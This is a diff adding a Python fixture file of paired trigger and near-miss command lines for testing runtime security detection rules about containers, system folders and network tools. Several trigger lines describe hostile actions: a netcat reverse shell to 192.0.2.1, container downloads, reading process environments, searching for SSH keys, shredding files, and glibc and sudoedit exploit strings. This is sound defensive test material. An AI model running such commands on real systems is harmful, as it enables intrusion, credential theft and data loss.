@@ -1,0 +1,121 @@
+"""Command lines for the rules about watched folders, used tools and containers; ``test_own_rules.py`` runs them."""
+
+from __future__ import annotations
+
+from other_ways import IN_BIN, INSTALLED
+
+#: Rules about what the tester is: a program that is not installed, under many names. They tell of other lines by the way.
+BY_THE_WAY = {
+    "Folder of programs changed",
+    "File of the system written by a program that is not installed",
+    "Program with a name of the system's",
+    "Settings of a user read by a program that is not installed",
+}
+
+CONTAINER = "@runc cgroup $cgroup"
+
+#: For each rule a command line that fires it and one that is close but does not; conftest says how to read them.
+TOOL_LINES = {
+    "Folder of programs changed": (
+        "@implant private /usr/bin made /usr/bin/x noop",
+        "@builder private /usr/local folder /usr/local/bin made /usr/local/bin/x noop",
+    ),
+    "File of the system written by a program that is not installed": (
+        "@implant private /etc made /etc/x noop",
+        f"{INSTALLED}/cupsd folder $tmp/x private /etc made /etc/x noop",
+    ),
+    "Log emptied": ("@implant open truncate $tmp/auth.log", "@implant open append $tmp/auth.log"),
+    "Start-up file of a user's shell changed": (
+        "@implant open append $tmp/.bashrc",
+        "@implant open append $tmp/bashrc",
+    ),
+    "Settings of a user read by a program that is not installed": (
+        "@thief folder $tmp/.ssh made $tmp/.ssh/known_hosts noop",
+        f"{INSTALLED}/ssh folder $tmp/.ssh made $tmp/.ssh/known_hosts noop",
+    ),
+    "Hidden file made in a temporary folder": (
+        "@implant made /tmp/.falcohost-hidden unlink /tmp/.falcohost-hidden",
+        "@implant made $tmp/.hidden unlink $tmp/.hidden",
+    ),
+    "Link made to files that only root may see": (
+        "@implant symlink /etc $tmp/x",
+        "@implant symlink /etc/hostname $tmp/x",
+    ),
+    "Keys and passwords searched for": (
+        "@a run @locate noop id_rsa",
+        "@a run @locate noop id_rs",
+    ),
+    "Miner of coins started": (
+        "@a run @program noop -o Stratum+TCP://pool:3333",
+        "@a run @program noop -o tcp://pool:3333",
+    ),
+    "Files overwritten for good": (
+        "@a run @shred noop $tmp/x",
+        "@a run @dd noop if=/dev/sda of=/dev/null",
+    ),
+    "Program handed to the network": (
+        "@a run @ncat noop -e /bin/sh 192.0.2.1 22",
+        "@a run @ncat noop 192.0.2.1 22",
+    ),
+    "Network scanned or listened to": ("@a run @nmap noop 192.0.2.0/24", "@a run @ping noop 192.0.2.1"),
+    "Program with a name of the system's": ("@a run @sha1sum noop", f"{IN_BIN}/sha1sum folder $tmp/x"),
+    "Database started a program": ("@mysqld run /usr/bin/true $tmp/x", "@builder run /usr/bin/true $tmp"),
+    "Jobs of cron read or changed without a terminal": (
+        "@a run @crontab noop",
+        "@a terminal run @crontab noop",
+    ),
+    "C library tuned as exploits do": (
+        "@a with GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=1 run @program noop",
+        "@a with GLIBC_TUNABLES=glibc.malloc.mxfast=1 run @program noop",
+    ),
+    "Set-uid program started as exploits do": (
+        "@a exec-as @sudo sudoedit noop -s $tmp\\",
+        "@a exec-as @sudo sudoedit noop -s $tmp",
+    ),
+    "Program for logins started by a system account": (
+        f"{IN_BIN}/su folder $tmp/x as 1 exec /usr/bin/su noop $tmp/x",
+        f"{IN_BIN}/su folder $tmp/x as 1000 exec /usr/bin/su noop $tmp/x",
+    ),
+    "SSH used at a port of another service": (
+        "@a run @ssh noop -p 443 user@host",
+        "@a run @ssh noop -p 2222 user@host",
+    ),
+    "Namespace joined by a program that is not installed": ("@tool setns", f"{IN_BIN}/nsenter folder $tmp/x setns"),
+    "Package manager started in a running container": (
+        f"{CONTAINER} run @apt-get noop update",
+        "@a run @apt-get noop update",
+    ),
+    "Files fetched or sent by a tool in a container": (
+        f"{CONTAINER} run @wget noop http://192.0.2.1/x",
+        f"{CONTAINER} run @curl noop http://192.0.2.1/x",
+    ),
+    "Network tool started in a container": (f"{CONTAINER} run @telnet noop 192.0.2.1", "@a run @telnet noop 192.0.2.1"),
+    "Client of Kubernetes or a runtime started in a container": (
+        f"{CONTAINER} run @kubectl noop get pods",
+        "@a run @kubectl noop get pods",
+    ),
+    "Tool for disks and mounts started in a container": (
+        f"{CONTAINER} run @debugfs noop /dev/sda",
+        "@a run @debugfs noop /dev/sda",
+    ),
+    "Encoded text decoded by a command in a container": (
+        f"{CONTAINER} run @program noop Y2F0 | base64 -d",
+        f"{CONTAINER} run @program noop Y2F0 | base64",
+    ),
+    "Environment read by a command in a container": (
+        f"{CONTAINER} run @cat /proc/self/environ",
+        f"{CONTAINER} run @cat /proc/self/comm",
+    ),
+    "Program made in a temporary folder of a container": (
+        f"{CONTAINER} exec @implant chmod 0755 $tmp/@implant",
+        f"{CONTAINER} exec @implant chmod 0600 $tmp/@other",
+    ),
+    "Namespaces changed without the right to in a container": (
+        f"{CONTAINER} as 65534 exec @exploit unshare fs",
+        f"{CONTAINER} exec @tool unshare fs",
+    ),
+    "Raw network traffic opened in a container": (
+        f"{CONTAINER} exec @sniffer socket packet",
+        f"{CONTAINER} exec @tool socket inet",
+    ),
+}
